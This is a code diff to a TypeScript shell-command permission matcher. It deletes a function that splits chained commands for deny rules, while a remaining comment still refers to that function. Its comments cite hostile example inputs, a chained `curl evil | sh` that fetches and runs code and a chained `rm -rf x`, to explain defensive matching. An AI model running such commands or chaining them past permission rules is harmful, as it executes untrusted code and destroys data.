@@ -288,7 +288,7 @@ function globAnchor(text: string): { kind: 'workspace' | 'absolute' | 'home'; gl
  * Content patterns. A shell-style prefix rule must not be widened by chaining: `npm run test:*`
  * does not cover `npm run test; curl evil | sh`, so a prefix or wildcard rule matches only content
  * without shell control operators. (Deny and ask rules check each chained segment separately,
- * normalised; see {@link contentSegments} and `commandCandidates`.)
+ * normalised; see `contentSegments` and `commandCandidates`.)
  */
 function compileContentPattern(text: string): (content: string) => boolean {
   if (text.endsWith(':*')) {
@@ -308,20 +308,6 @@ const SHELL_CONTROL = /[;&|`\n\r<>]|\$\(/;
 
 function hasShellControl(content: string): boolean {
   return SHELL_CONTROL.test(content);
-}
-
-/**
- * The segments of a chained command (`a && b; c | d`), for deny and ask rules: a deny rule on
- * `rm:*` must catch `ls; rm -rf x` as well as `rm -rf x`, and also `rm -rf x > /dev/null` and
- * `(rm -rf x)`: redirections and groups are cut off too, since a prefix pattern never matches
- * text with a shell control character in it.
- */
-export function contentSegments(content: string): string[] {
-  const segments = content
-    .split(/&&|\|\||[;&|\n\r<>(){}]|\$\(|`/)
-    .map((segment) => segment.trim())
-    .filter((segment) => segment !== '');
-  return [content, ...segments];
 }
 
 function escapeRegExp(text: string): string {
